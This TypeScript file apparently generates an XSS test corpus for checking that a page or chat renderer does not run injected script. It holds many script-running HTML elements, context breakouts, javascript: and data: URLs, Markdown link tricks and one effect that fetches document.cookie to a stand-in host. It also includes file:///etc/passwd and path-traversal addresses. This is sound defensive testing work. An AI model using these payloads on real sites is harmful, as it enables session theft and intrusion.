/**
 * What people have tried to make a page run that only wanted to show their name: by families, each several times.
 * Whatever of it ran would be noticed: by its dialog, by a request to another host, or by the title of the page.
 */

const EFFECTS = ["alert(1)", "document.title='owned'", "fetch('//127.0.0.2:9/'+document.cookie)"];

/** Elements that run something by themselves, when touched, or when shown. `E` is what they run. */
const ELEMENTS = [
  `<script>E</script>`,
  `<ScRiPt>E</sCrIpT>`,
  `<script\n>E</script\t>`,
  `<script>E//`,
  `<script src="data:text/javascript,E"></script>`,
  `<script type="module">E</script>`,
  `<scr<script>ipt>E</scr</script>ipt>`,
  `<img src=x onerror="E">`,
  `<img/src=x/onerror=E>`,
  `<img src=x onerror\n=\n"E">`,
  `<img src="x\` \`<script>E</script>"\` \`>`,
  `<img src=1 href=1 onerror="javascript:E">`,
  `<IMG """><script>E</script>">`,
  `<svg onload="E">`,
  `<svg/onload=E>`,
  `<svg><script>E</script></svg>`,
  `<svg><script xlink:href="data:,E"/></svg>`,
  `<svg><animate onbegin="E" attributeName=x dur=1s>`,
  `<svg><set onbegin="E" attributeName=x>`,
  `<svg><a xlink:href="javascript:E"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><body onload="E"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='E'/>#x"/></svg>`,
  `<math><mtext></p><img src=x onerror="E"></math>`,
  `<math href="javascript:E">x</math>`,
  `<body onload="E">`,
  `<body onpageshow="E">`,
  `<iframe src="javascript:E"></iframe>`,
  `<iframe srcdoc="<script>parent.E</script>"></iframe>`,
  `<iframe onload="E"></iframe>`,
  `<object data="javascript:E"></object>`,
  `<embed src="javascript:E">`,
  `<video><source onerror="E"></video>`,
  `<video src=x onerror="E" autoplay></video>`,
  `<audio src=x onerror="E">`,
  `<details open ontoggle="E">x</details>`,
  `<input autofocus onfocus="E">`,
  `<select autofocus onfocus="E">`,
  `<textarea autofocus onfocus="E">`,
  `<button popovertarget=x onclick="E">x</button>`,
  `<form action="javascript:E"><button>x</button></form>`,
  `<button formaction="javascript:E">x</button>`,
  `<isindex type=image src=1 onerror="E">`,
  `<marquee onstart="E">x</marquee>`,
  `<div style="animation-name:rotate" onanimationstart="E">x</div>`,
  `<div onpointerenter="E">x</div>`,
  `<p onmouseover="E" tabindex=1 onfocus="E">x</p>`,
  `<a href="javascript:E">x</a>`,
  `<base href="javascript:/a/-E///////">`,
  `<meta http-equiv="refresh" content="0;url=javascript:E">`,
  `<link rel="stylesheet" href="data:text/css,*{}" onload="E">`,
  `<style>@import "//127.0.0.2:9/E";</style>`,
  `<template><script>E</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=E>">`,
  `<dialog open oncancel="E">x</dialog>`,
  `<x onclick="E" id=x tabindex=0>#x</x>`,
];

/** What tears the place open that a text is put into. */
const BREAKOUTS = [
  `"><img src=x onerror=E>`,
  `'><img src=x onerror=E>`,
  `" onmouseover="E" x="`,
  `' onfocus='E' autofocus='`,
  `\` onerror=E \``,
  `--><script>E</script><!--`,
  `</textarea><script>E</script>`,
  `</title><script>E</script>`,
  `</script><script>E</script>`,
  `]]><script>E</script>`,
  `</span></li><svg onload=E>`,
  `\${E}`,
  `{{constructor.constructor("E")()}}`,
  `<%= E %>`,
  `#{E}`,
  `';E;//`,
  `\\u003cimg src=x onerror=E\\u003e`,
  `&lt;img src=x onerror=E&gt;`,
  `&#60;script&#62;E&#60;/script&#62;`,
  `%3Cscript%3EE%3C/script%3E`,
  `＜script＞E＜/script＞`,
  `\u202e<script>E</script>`,
  `{"__html":"<img src=x onerror=E>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<script>E</script>"}}`,
  `__proto__[onerror]=E`,
];

/** Addresses that run something, or lead where no link of a chat should. */
const ADDRESSES = [
  `javascript:E`,
  `JaVaScRiPt:E`,
  `java\tscript:E`,
  `java\nscript:E`,
  ` javascript:E`,
  `\u0001javascript:E`,
  `javascript://x%0aE`,
  `javascript&colon;E`,
  `&#106;avascript:E`,
  `javascript:/*https://example.org*/E`,
  `vbscript:msgbox(E)`,
  `livescript:E`,
  `data:text/html,<script>E</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="E"/>`,
  `file:///etc/passwd`,
  `blob:https://127.0.0.2/E`,
  `view-source:javascript:E`,
  `//127.0.0.2:9/E`,
  `\\\\127.0.0.2\\E`,
  `/api/v1/files/1/../../E`,
  `https://127.0.0.2:9/"onmouseover="E`,
  `https://127.0.0.2:9/<script>E</script>`,
  `https://user:javascript:E@127.0.0.2:9/`,
];

/** What a reader of Markdown might make of an address. */
const MARKDOWN = [
  `[x](A)`,
  `![x](A)`,
  `[x](A "title")`,
  `<A>`,
  `[x]: A\n[x]`,
  `[x](<A>)`,
  `[![x](A)](A)`,
  `[x](A)\`[x](A)\``,
  `**[x](A)**`,
  `> [x](A)`,
];

const of = (templates: string[], effects: string[]) =>
  templates.flatMap((template) => effects.map((effect) => template.replaceAll("E", effect)));

const addresses = of(ADDRESSES, [EFFECTS[0]]);

/** Distinct, none empty. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...of(ELEMENTS, EFFECTS),
    ...of(BREAKOUTS, EFFECTS.slice(0, 2)),
    ...addresses,
    ...addresses.flatMap((address, i) =>
      MARKDOWN.filter((_, j) => (i + j) % 3 === 0).map((template) => template.replaceAll("A", () => address))
    ),
  ]),
];
